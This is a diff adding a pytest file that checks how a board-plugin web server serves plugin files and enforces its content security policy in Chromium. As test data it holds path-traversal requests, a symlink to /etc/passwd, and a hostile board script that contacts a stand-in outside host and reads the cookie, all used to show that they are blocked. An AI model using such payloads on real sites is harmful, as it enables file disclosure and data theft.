@@ -1,0 +1,146 @@
+"""Boards that plugins bring: the guide's example in Chromium, its files and nothing else, and boards that fail."""
+
+import re
+import sys
+from pathlib import Path
+
+import pytest
+from starlette.testclient import TestClient
+
+from bothost import rules
+from bothost.plugins import Plugins
+from bothost.web.application import Web
+from bothost.web.site import Site
+from bothost.web.viewers import Viewers
+
+GUIDE = Path(__file__).parents[2] / "docs/guide/write-a-board.md"
+FILES = {"python": "__init__.py", "js": "board/board.js", "css": "board/board.css"}
+
+
+@pytest.fixture
+def plugin(tmp_path, monkeypatch):
+    """The folder of the guide's plugin, as a reader would write it."""
+    folder = tmp_path / "plugins.d/nim_table"
+    (folder / "board").mkdir(parents=True)
+    for language, text in re.findall(r"^```(\w+)\n(.*?)^```$", GUIDE.read_text(), re.M | re.S):
+        if language in FILES:
+            (folder / FILES[language]).write_text(text)
+    yield folder
+    sys.modules.pop("nim_table", None)
+
+
+@pytest.fixture
+def site(site, plugin):
+    plugins = Plugins.load(plugin.parent)
+    assert "nim" in plugins.boards, plugins.failures
+    return Site(site.settings, site.store, plugins, rules.game)
+
+
+@pytest.fixture
+def client(site):
+    with TestClient(Web(site, Viewers(None, spectators=False)).application(), base_url="http://localhost") as made:
+        made.get("/api/session")
+        yield made
+
+
+def test_the_files_of_a_board_are_served_and_no_others(client, plugin):
+    assert client.get("/api/boards").json() == {"nim": "/boards/nim/board.js"}
+    module = client.get("/boards/nim/board.js")
+    assert module.headers["content-type"].startswith("text/javascript") and "export function Board" in module.text
+    assert "script-src 'self'" in module.headers["content-security-policy"]
+    assert client.get("/boards/nim/board.css").status_code == 200
+    (plugin / "board/page.html").write_text("<script>1</script>")
+    (plugin / "board/.secret.json").write_text("{}")
+    (plugin / "board/leads.json").symlink_to("/etc/passwd")
+    (plugin / "board/out").symlink_to(plugin)
+    (plugin / "beside.js").touch()
+    for path in (
+        "page.html",
+        ".secret.json",
+        "leads.json",
+        "out/beside.js",
+        "..%2fbeside.js",
+        "%2e%2e/beside.js",
+        "",
+        ".",
+    ):
+        assert client.get(f"/boards/nim/{path}").status_code == 404, path
+    for path in ("/boards/doudizhu/board.js", "/boards/", "/boards/nim2/board.js"):
+        assert client.get(path).status_code == 404, path
+
+
+@pytest.fixture
+def hand(logged, played):
+    """The name of a hand of Nim."""
+    rows = played("nim", lambda number, legal: legal[-1])
+    logged(rows)
+    return f"{rows[0].game_id.hex()}-0"
+
+
+def test_the_example_of_the_guide_in_the_browser(page, served, hand):
+    page.goto(f"{served}/hand/{hand}?at=2")
+    stones = page.locator(".nim .stones")
+    assert stones.get_attribute("aria-label") == "4 stones"
+    page.wait_for_function("() => getComputedStyle(document.querySelector('.nim .stones')).letterSpacing === '8px'")
+    assert "takes 3" in page.locator(".steps").inner_text()
+    chosen = page.evaluate("""async () => {
+        const { render, html } = await import("/static/html.js");
+        const { Board } = await import("/boards/nim/board.js");
+        const place = document.createElement("div"), chosen = [];
+        const position = { seat: 0, players: ["a", "b"], view: { moves: [3] } };
+        const legal = [{ action: 0, notation: "take1" }, { action: 1, notation: "take2" }];
+        const onAct = (action) => chosen.push(action.notation);
+        render(html`<${Board} position=${position} legal=${legal} onAct=${onAct} />`, place);
+        place.querySelectorAll("button")[1].click();
+        return chosen;
+    }""")
+    assert chosen == ["take2"]
+
+
+@pytest.mark.parametrize(
+    ("module", "words"),
+    [
+        ("export function Board() { throw new Error('no stones'); }", "no stones"),
+        ("export function Board() { eval('1'); }", "unsafe-eval"),
+        ("export const nothing = 1;", "failed"),
+        ("this is no module", "failed"),
+    ],
+)
+def test_where_a_board_fails_the_generic_one_is_shown(chromium, served, plugin, hand, module, words):
+    (plugin / "board/board.js").write_text(module)
+    context = chromium.new_context(locale="en-GB")
+    page = context.new_page()
+    page.goto(f"{served}/hand/{hand}?at=2")
+    page.wait_for_selector("[role=alert]:has-text('The board of this game has failed.')")
+    assert words in page.locator("[role=alert]").inner_text()
+    assert page.locator(".board.generic").inner_text().count("moves") == 1
+    context.close()
+
+
+def test_a_board_reaches_no_other_server(chromium, served, plugin, hand):
+    """What a hostile board tries with the policy of the pages: a request, an image, a script, a frame, a form."""
+    (plugin / "board/board.js").write_text("""
+        const away = "http://203.0.113.1/";
+        fetch(away).catch(() => {});
+        new Image().src = away;
+        const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
+        window.inline = 0;
+        add("script", { src: away });
+        add("iframe", { src: away });
+        add("form", { action: away });
+        add("script", { textContent: "window.inline = 1" });
+        export const Board = () => document.cookie || "no cookie";
+    """)
+    context = chromium.new_context()
+    page = context.new_page()
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("requestfailed", lambda request: asked.remove(request.url))
+    page.goto(f"{served}/hand/{hand}")
+    page.wait_for_selector("text=no cookie")
+    page.evaluate("document.forms[document.forms.length - 1].submit()")
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.inline") == 0
+    assert [url for url in asked if not url.startswith(served)] == []
+    assert page.url.startswith(served)
+    context.close()
